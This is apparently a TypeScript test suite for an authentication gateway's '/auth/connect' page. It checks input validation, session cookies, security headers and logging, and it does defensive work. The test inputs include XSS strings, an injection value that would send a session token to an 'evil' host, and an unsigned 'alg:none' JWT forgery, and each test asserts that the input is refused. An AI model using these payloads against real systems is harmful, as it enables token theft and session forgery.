import { describe, expect, it } from 'vitest'
import { ANYONE, resource } from '../support/build-app.ts'
import { DOMAIN_COOKIE, HAND_COOKIE, HOST_COOKIE, makeSession } from '../support/session.ts'
import { ask, buildEdgeApp, CONNECT, HOST, open } from './support.ts'

const LOGIN = 'https://mcp.example.com/.gatewarden/login?rd='
const GATEWAY_LOGIN = 'https://auth.example.com/.gatewarden/login?rd='

describe('the parameters of /auth/connect', () => {
  it.each([
    '/auth/connect',
    '/auth/connect?',
    '/auth/connect?callback_port=49152',
    '/auth/connect?code=K7M-2QXA',
    '/auth/connect?callback_port=&code=K7M-2QXA',
    '/auth/connect?callback_port=49152&code=',
  ])('%s is answered as mcpauth does', async (url) => {
    const { app } = await buildEdgeApp()
    const answer = await ask(app, url)
    expect(answer.statusCode).toBe(400)
    expect(answer.headers['content-type']).toBe('application/json')
    expect(answer.body).toBe('{"error":"callback_port and code are required"}')
  })

  it.each([
    '1;alert(1)',
    '0',
    '65536',
    '99999',
    '100000',
    ' 80',
    '80 ',
    '+80',
    '-1',
    '1e3',
    '0x50',
    '080',
    '8\u06600',
    '80\n',
    '80.0',
    '</script>',
    'NaN',
    '80,81',
  ])('the port %j is refused', async (port) => {
    const { app } = await buildEdgeApp()
    const answer = await ask(
      app,
      `/auth/connect?${new URLSearchParams({ callback_port: port, code: 'K7M-2QXA' })}`,
    )
    expect(answer.statusCode).toBe(400)
    expect(answer.body).toBe('{"error":"callback_port is not a port from 1 to 65535"}')
  })

  it.each([
    '</script><script>alert(1)</script>',
    'K7M 2QXA',
    'K7M_2QXA',
    'K7M-2QXA\n',
    "';alert(1)//",
    'K\u202e',
    'a'.repeat(65),
  ])('the code %j is refused', async (code) => {
    const { app } = await buildEdgeApp()
    const answer = await ask(
      app,
      `/auth/connect?${new URLSearchParams({ callback_port: '49152', code })}`,
    )
    expect(answer.statusCode).toBe(400)
    expect(answer.body).toBe('{"error":"code is not 1 to 64 letters, digits and hyphens"}')
  })

  it.each([
    'callback_port=49152&callback_port=49153&code=K7M-2QXA',
    'callback_port=49152&code=K7M-2QXA&code=K7M-2QXA',
    'callback_port=49152&code=K7M-2QXA&code=',
    'callback%5Fport=1&callback_port=49152&code=K7M-2QXA',
  ])('%s is refused: one of them twice', async (query) => {
    const { app } = await buildEdgeApp()
    const answer = await ask(app, `/auth/connect?${query}`)
    expect(answer.statusCode).toBe(400)
    expect(answer.body).toBe('{"error":"callback_port or code occurs more than once"}')
  })

  it('are judged before the host and the session, and a person reads why on a page', async () => {
    const test = await buildEdgeApp()
    const { cookie, token } = await makeSession(test)
    const url = '/auth/connect?callback_port=1%3Bfetch(%27//evil/%27%2Btoken)&code=x'
    for (const host of [HOST, 'unknown.example.com']) {
      const answer = await open(test.app, url, { host, cookie })
      expect(answer.statusCode).toBe(400)
      expect(answer.headers['content-type']).toBe('text/html; charset=utf-8')
      expect(answer.body).toContain('callback_port is not a port from 1 to 65535')
      expect(answer.body).not.toContain('fetch(')
      expect(answer.body).not.toContain(token)
    }
  })

  it.each([1, 65_535])('port %i is one', async (port) => {
    const { app } = await buildEdgeApp()
    const answer = await open(app, `/auth/connect?callback_port=${port}&code=a`)
    expect(answer.statusCode).toBe(302)
  })

  it('T33: thousands of them are read once', async () => {
    const { app } = await buildEdgeApp()
    const answer = await ask(app, `/auth/connect?${'code=a&'.repeat(8_000)}`)
    expect(answer.statusCode).toBe(400)
  })
})

describe('somebody without a session', () => {
  it('signs in and comes back to the very address', async () => {
    const { app } = await buildEdgeApp()
    const answer = await open(app, `${CONNECT}&utm_source=x`)
    expect(answer.statusCode).toBe(302)
    expect(answer.headers.location).toBe(LOGIN + encodeURIComponent(CONNECT))
    expect(answer.headers['cache-control']).toBe('no-store')
    expect(answer.headers['referrer-policy']).toBe('no-referrer')
  })

  it.each([
    ["the gateway's own host", {}, 'auth.example.com', 'https://auth.example.com'],
    ['a host under the cookie domain', { cookieDomain: 'example.com' }, HOST, `https://${HOST}`],
  ])('signs in at the gateway, from %s', async (_name, changes, host, origin) => {
    const { app } = await buildEdgeApp(changes)
    const answer = await open(app, CONNECT, { host })
    expect(answer.headers.location).toBe(GATEWAY_LOGIN + encodeURIComponent(origin + CONNECT))
  })

  it.each(['unknown.example.com', 'mcp.example.com.evil.test', '', 'a b', 'mcp.example.com:8443'])(
    'finds nothing at the host %j',
    async (host) => {
      const { app } = await buildEdgeApp()
      const answer = await ask(app, CONNECT, { host })
      expect(answer.statusCode).toBe(404)
      expect(answer.json()).toEqual({
        error: 'there is not exactly one protected server at this host',
      })
    },
  )

  it('finds nothing where two servers live and none is the default', async () => {
    const two = [resource(), resource({ id: 'wiki', url: 'https://mcp.example.com/wiki/mcp' })]
    const { app } = await buildEdgeApp({ resources: two })
    expect((await open(app, CONNECT)).statusCode).toBe(404)
    expect((await open(app, CONNECT, { host: 'auth.example.com' })).statusCode).toBe(404)
    const marked = await buildEdgeApp({
      resources: two.map((one) => ({ ...one, isDefault: one.id === 'wiki' })),
    })
    expect((await open(marked.app, CONNECT, { host: 'auth.example.com' })).statusCode).toBe(302)
  })
})

describe('a cookie that is no session', () => {
  it.each<[string, Parameters<typeof makeSession>[1], number]>([
    ['for another server', { grant: { resource: 'https://other.example.com' } }, 0],
    ['that says more than its grant', { claims: { scope: 'mcp admin' } }, 0],
    ['of somebody who is gone', { grant: { subject: 'carol' } }, 0],
    ['past its time', {}, 86_400],
    ['idle for too long', {}, 28_800],
  ])('%s leads to the login', async (_name, changes, later) => {
    const test = await buildEdgeApp()
    const { cookie } = await makeSession(test, changes)
    test.clock.advance(later)
    const answer = await open(test.app, CONNECT, { cookie })
    expect(answer.statusCode).toBe(302)
    expect(answer.headers.location).toBe(LOGIN + encodeURIComponent(CONNECT))
  })

  it('revoked, forged or of another kind, it leads there too', async () => {
    const test = await buildEdgeApp()
    const { cookie, grant, records } = await makeSession(test)
    expect((await open(test.app, CONNECT, { cookie })).statusCode).toBe(200)
    await records.grants.revoke(grant.id)
    const unsigned = `${Buffer.from('{"alg":"none","typ":"session+jwt"}').toString('base64url')}.e30.`
    for (const other of [cookie, `${cookie}x`, `${HOST_COOKIE}=${unsigned}`, `${HOST_COOKIE}=x`]) {
      const answer = await open(test.app, CONNECT, { cookie: other })
      expect(answer.statusCode).toBe(302)
      expect(answer.body).toBe('')
    }
  })

  it('beside a good one does not count', async () => {
    const test = await buildEdgeApp()
    const { cookie, token } = await makeSession(test)
    const answer = await open(test.app, CONNECT, { cookie: `${HOST_COOKIE}=x; ${cookie}` })
    expect(answer.statusCode).toBe(200)
    expect(answer.body).toContain(token)
  })

  it('at9: of a command line does not count from a browser', async () => {
    const test = await buildEdgeApp()
    const { token } = await makeSession(test)
    const cookie = `${HAND_COOKIE}=${token}`
    expect((await open(test.app, CONNECT, { cookie })).statusCode).toBe(302)
    expect((await ask(test.app, CONNECT, { cookie })).statusCode).toBe(200)
  })
})

describe('somebody whom the policy refuses', () => {
  it('gets a page that says so, and no session to hand on', async () => {
    const test = await buildEdgeApp()
    const { cookie, token } = await makeSession(test, { grant: { subject: 'bob' } })
    const answer = await open(test.app, CONNECT, { cookie })
    expect(answer.statusCode).toBe(403)
    expect(answer.body).toContain('You may not use Team notes')
    expect(answer.body).toContain('bob@elsewhere.test')
    expect(answer.body).not.toContain(token)
  })

  it('gets one where a required permission is missing', async () => {
    const test = await buildEdgeApp({
      resources: [resource({ scopes: { mcp: 'Use', admin: 'All' }, requiredScopes: ['admin'] })],
    })
    const { cookie, token } = await makeSession(test)
    const answer = await open(test.app, CONNECT, { cookie })
    expect(answer.statusCode).toBe(403)
    expect(answer.body).toContain('You have no permission for Team notes')
    expect(answer.body).not.toContain(token)
  })

  it('signs out at the gateway, where the session is its own', async () => {
    const test = await buildEdgeApp()
    const { token } = await makeSession(test, { grant: { subject: 'bob' } })
    const cookie = `${HOST_COOKIE}=${token}`
    const answer = await open(test.app, CONNECT, { cookie, host: 'auth.example.com' })
    expect(answer.statusCode).toBe(403)
    expect(answer.body).toContain('href="https://auth.example.com/logout"')
  })
})

describe('the connect page', () => {
  it.each([
    ['on the protected host', {}, HOST, HOST_COOKIE, 'https://mcp.example.com/notes/mcp'],
    ['on the gateway', {}, 'auth.example.com', HOST_COOKIE, 'https://mcp.example.com/notes/mcp'],
    [
      'under the cookie domain',
      { cookieDomain: 'example.com' },
      HOST,
      DOMAIN_COOKIE,
      'https://example.com',
    ],
  ])('%s shows code, gateway and user', async (_name, changes, host, name, audience) => {
    const test = await buildEdgeApp(changes)
    const { token } = await makeSession(test, { grant: { resource: audience } })
    const answer = await open(test.app, CONNECT, { host, cookie: `${name}=${token}` })
    expect(answer.statusCode).toBe(200)
    expect(answer.body).toContain('K7M-2QXA')
    expect(answer.body).toContain(`<b><bdi>${host}</bdi></b>`)
    expect(answer.body).toContain('<b><bdi>ann@example.com</bdi></b>')
    expect(answer.body).toContain(JSON.stringify({ port: 49_152, token, code: 'K7M-2QXA' }))
  })

  it('has a policy for one script, one port and no frame, and a nonce of its own', async () => {
    const test = await buildEdgeApp()
    const { cookie } = await makeSession(test)
    const nonces = new Set<string>()
    for (const port of ['49152', '1']) {
      const url = CONNECT.replace('49152', port)
      const { headers, body } = await open(test.app, url, { cookie })
      const policy = String(headers['content-security-policy'])
      const nonce = /'nonce-([\w-]{22})'/.exec(policy)?.[1] ?? ''
      nonces.add(nonce)
      expect(policy.replace(/sha256-[^']+/, 'hash').replace(nonce, 'nonce')).toBe(
        `default-src 'none'; style-src 'hash'; script-src 'nonce-nonce'; connect-src http://127.0.0.1:${port}; form-action http://127.0.0.1:${port}; img-src data:; base-uri 'none'; frame-ancestors 'none'`,
      )
      expect(body).toContain(`<script nonce="${nonce}">`)
      expect(headers).toMatchObject({
        'x-frame-options': 'DENY',
        'cross-origin-opener-policy': 'same-origin',
        'cache-control': 'no-store',
        'referrer-policy': 'origin',
        'x-content-type-options': 'nosniff',
      })
      expect(headers['access-control-allow-origin']).toBeUndefined()
    }
    expect(nonces.size).toBe(2)
  })

  it.each([
    { 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' },
    { 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'script' },
    { 'sec-fetch-mode': 'same-origin', 'sec-fetch-dest': 'worker' },
    { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'iframe' },
    { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'embed' },
    { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'object' },
    // A window that the page keeps control of, because it sends the same opener policy.
    { 'sec-fetch-site': 'same-origin' },
    // A service worker that reads the navigation preload of the browser.
    { 'service-worker-navigation-preload': 'true' },
    { 'service-worker-navigation-preload': '' },
  ])('is not for a page of the same origin: %j', async (headers) => {
    const test = await buildEdgeApp()
    const { cookie, token } = await makeSession(test)
    const answer = await open(test.app, CONNECT, { cookie, ...headers })
    expect(answer.statusCode).toBe(403)
    expect(answer.body).toContain('a person must open this address, not a web page')
    expect(answer.body).not.toContain(token)
  })

  it("is there after the login, which on the gateway's own host is of the same origin", async () => {
    const test = await buildEdgeApp()
    const { cookie, token } = await makeSession(test)
    for (const site of ['none', 'same-site', 'cross-site']) {
      const answer = await open(test.app, CONNECT, { cookie, 'sec-fetch-site': site })
      expect(answer.statusCode).toBe(200)
    }
    const own = { host: 'auth.example.com', cookie: `${HOST_COOKIE}=${token}` }
    const answer = await open(test.app, CONNECT, { ...own, 'sec-fetch-site': 'same-origin' })
    expect(answer.statusCode).toBe(200)
  })

  it('is there for browsers that do not say what opens it', async () => {
    const test = await buildEdgeApp()
    const { cookie } = await makeSession(test)
    expect((await ask(test.app, CONNECT, { cookie })).statusCode).toBe(200)
  })

  it('T32: leaves no session and no query in the log', async () => {
    const test = await buildEdgeApp()
    const { cookie, token } = await makeSession(test)
    await open(test.app, CONNECT, { cookie })
    await open(test.app, `${CONNECT}%00`, { cookie })
    const log = JSON.stringify(test.logs)
    expect(log).toContain('session-handed-over')
    expect(log).not.toContain(token)
    expect(log).not.toContain('K7M-2QXA')
  })

  it.each(['POST', 'PUT', 'DELETE', 'OPTIONS'] as const)('is not there for %s', async (method) => {
    const { app } = await buildEdgeApp()
    const answer = await app.inject({ method, url: CONNECT, headers: { host: HOST } })
    expect(answer.statusCode).toBe(405)
    expect(answer.headers.allow).toBe('GET, HEAD')
  })

  it('says that the store is down as an outage, and shows nothing', async () => {
    const test = await buildEdgeApp({ resources: [resource({ allow: ANYONE })] })
    const { cookie, token } = await makeSession(test)
    await test.storage.close()
    const answer = await open(test.app, CONNECT, { cookie })
    expect(answer.statusCode).toBe(503)
    expect(answer.headers['retry-after']).toBeDefined()
    expect(answer.body).not.toContain(token)
  })
})

it('/auth/connect/callback of mcpauth is nothing here: nobody hands us codes', async () => {
  const { app } = await buildEdgeApp()
  const answer = await open(app, '/auth/connect/callback?code=anything')
  expect(answer.statusCode).toBe(404)
})
